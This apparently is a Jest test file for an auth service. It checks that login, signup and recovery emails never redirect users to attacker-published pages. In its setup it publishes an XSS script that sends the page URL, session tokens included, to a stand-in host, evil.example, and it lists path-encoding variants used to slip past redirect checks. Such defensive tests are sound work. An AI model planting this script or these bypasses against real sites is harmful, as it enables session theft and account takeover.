import { beforeAll, describe, expect, it } from '@jest/globals';
import { newAddress, ok, password, type People, sharedSystem, START_WITHIN_MS } from './people.js';

/**
 * A stranger requests a mail to another person's address and gives, as the target of its link, a page that they
 * published: it would run where the address contains the session.
 */
let people: People;
let page: string;
/** This address is from before pages had a host of their own; it redirects and passes on the address's parameters. */
let oldPage: string;

beforeAll(async () => {
  people = await sharedSystem();
  const published = await people.publish('<script>fetch("https://evil.example/" + location.href)</script>');
  const { site } = (await published.json()) as { site: { path: string; url: string } };
  page = site.url;
  oldPage = `${people.origin}/share/${site.path}`;
}, START_WITHIN_MS);

type Client = ReturnType<People['client']>['auth'];

const asks = {
  signup: (auth: Client, email: string, emailRedirectTo: string) =>
    auth.signUp({ email, password, options: { emailRedirectTo } }),
  magiclink: (auth: Client, email: string, emailRedirectTo: string) =>
    auth.signInWithOtp({ email, options: { emailRedirectTo } }),
  recovery: (auth: Client, email: string, redirectTo: string) => auth.resetPasswordForEmail(email, { redirectTo }),
};

const follow = async (link: string | URL): Promise<URL> => {
  const answer = await fetch(link, { redirect: 'manual' });
  expect(answer.status).toBe(303);
  return new URL(answer.headers.get('location') ?? '');
};

describe.each(['implicit', 'pkce'] as const)('a link whose redirect is a published page, %s', (flow) => {
  it.each(['signup', 'magiclink', 'recovery'] as const)('leads to the start page: %s', async (type) => {
    const email = newAddress();
    if (type !== 'signup') await people.register(email);
    const client = people.client(flow);
    expect((await asks[type](client.auth, email, page)).error).toBeNull();
    const { link, token } = await people.mailbox.to(email, type === 'signup' ? 1 : 2);
    expect(link).not.toContain('share');
    // Such a link was mailed before such pages were refused.
    const query = new URLSearchParams({ token, type, redirect_to: page }).toString();
    const location = await follow(`${people.origin}/auth/v1/verify?${query}`);
    expect(location.origin + location.pathname).toBe(`${people.origin}/`);
    const handed = flow === 'pkce' ? location.searchParams.get('code') : location.hash;
    expect(handed).toMatch(flow === 'pkce' ? /./ : /access_token=/);
  });
});

describe('however the page is written', () => {
  it.each([
    (url: URL) => url.href.replace('/share/', '//share/'),
    (url: URL) => url.href.replace('/share/', '/x/../share/'),
    (url: URL) => url.href.replace('/share/', '/%73hare/'),
    (url: URL) => url.href.replace('/share/', '/SHARE/'),
    (url: URL) => url.href.replace('/share/', '/site/'),
    (url: URL) => url.href.replace('/share/', '\\share\\'),
    (url: URL) => `${url.protocol}//[::1]:${url.port}${url.pathname}`,
  ])('it is not where the link leads (%#)', async (write) => {
    const email = newAddress();
    await people.register(email);
    const written = write(new URL(oldPage));
    await ok(people.client().auth.signInWithOtp({ email, options: { emailRedirectTo: written } }));
    const { link } = await people.mailbox.to(email, 2);
    const location = await follow(link);
    expect(location.origin + location.pathname).toBe(`${people.origin}/`);
    const referred = await fetch(`${people.origin}/auth/v1/verify?token=x&type=magiclink`, {
      redirect: 'manual',
      headers: { referer: written },
    });
    expect(referred.headers.get('location')).toMatch(`${people.origin}/#error=`);
  });
});
